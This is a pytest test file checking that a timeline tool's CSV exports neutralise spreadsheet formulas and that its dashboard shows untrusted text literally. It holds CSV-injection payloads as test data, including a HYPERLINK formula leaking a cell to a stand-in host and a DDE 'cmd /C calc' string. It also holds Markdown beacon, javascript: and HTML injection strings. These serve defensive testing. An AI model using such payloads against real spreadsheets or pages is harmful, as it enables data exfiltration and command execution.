"""Issue 15: text from articles and files stays text: CSV cells never start a formula, error
boxes and captions never render Markdown (no image fetched, no link, no HTML)."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from timeline.cli import main
from timeline.dashboard.exports import events_bytes
from timeline.dashboard.literal import literal

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ['=HYPERLINK("http://e.vil/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HOSTILE = [
    "![x](http://127.0.0.1:9/beacon.png)", "[click](javascript:alert(1))", "<img src=//e.vil/p>",
    "**bold** _em_ `code` ``two``", "$x^2$ :red[alert] :material/home:", "www.e.vil and a@b.c",
    "line one\nline two # heading", "&lt;script&gt;",
]


def csv_cells(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_cells_never_start_a_formula(formula):
    frame = pd.DataFrame({"event_id": ["d-e1"], "doc_id": [formula], "summary": [formula],
                          "actors": [[formula]], "date_start": [-1], "n_sources": [1]})
    (row,) = csv_cells(events_bytes(frame, "csv"))
    for column in ("doc_id", "summary"):
        assert row[column] == "'" + formula  # shown as the same text, run as nothing
    assert row["date_start"] == "-1"  # numbers stay numbers
    assert json.loads(row["actors"]) == [formula]  # a JSON list starts with '['


def test_cli_csv_export_neutralises_formulas_from_an_article(tmp_path):
    article = tmp_path / "=cmd.txt"
    article.write_text("date 2025-04-28 -Rebels seized the airport on Saturday.\n")
    out = tmp_path / "events.csv"
    assert main(["events", str(article), "--format", "csv", "-o", str(out)]) == 0
    rows = csv_cells(out.read_bytes())
    assert rows and all(r["doc_id"] == "'=cmd" for r in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("-").isdigit()
    jsonl = tmp_path / "events.jsonl"
    assert main(["events", str(article), "--format", "jsonl", "-o", str(jsonl)]) == 0
    assert json.loads(jsonl.read_text().splitlines()[0])["doc_id"] == "=cmd"  # JSON keeps it exact


def inline_tokens(markdown: str) -> list:
    tokens = MarkdownIt("commonmark", {"linkify": False}).enable("strikethrough").parse(markdown)
    (inline,) = [t for t in tokens if t.type == "inline"]
    return inline.children


@pytest.mark.parametrize("text", HOSTILE)
def test_literal_is_rendered_as_exactly_that_text(text):
    children = inline_tokens(f"Not loaded: {literal(text)}")
    assert [t.type for t in children] == ["text", "code_inline"]
    assert children[1].content == text.replace("\n", " ")


def test_app_error_boxes_show_file_names_and_values_as_text(monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setattr(sys, "argv", ["app.py"])
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    beacon = "![x](http://127.0.0.1:9/beacon.png)"
    at.file_uploader(key="uploads").set_value([
        ("dated.json", json.dumps({"text": "Rebels left.", "date": beacon}).encode(),
         "application/json"),
        ("[link](http:e.vil).txt", b"", "text/plain"),
    ]).run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert len(errors) == 2
    for body in errors:
        children = inline_tokens(body)
        assert [t.type for t in children] == ["text", "code_inline"]
    assert beacon in errors[0] and "[link](http:e.vil).txt" in errors[1]
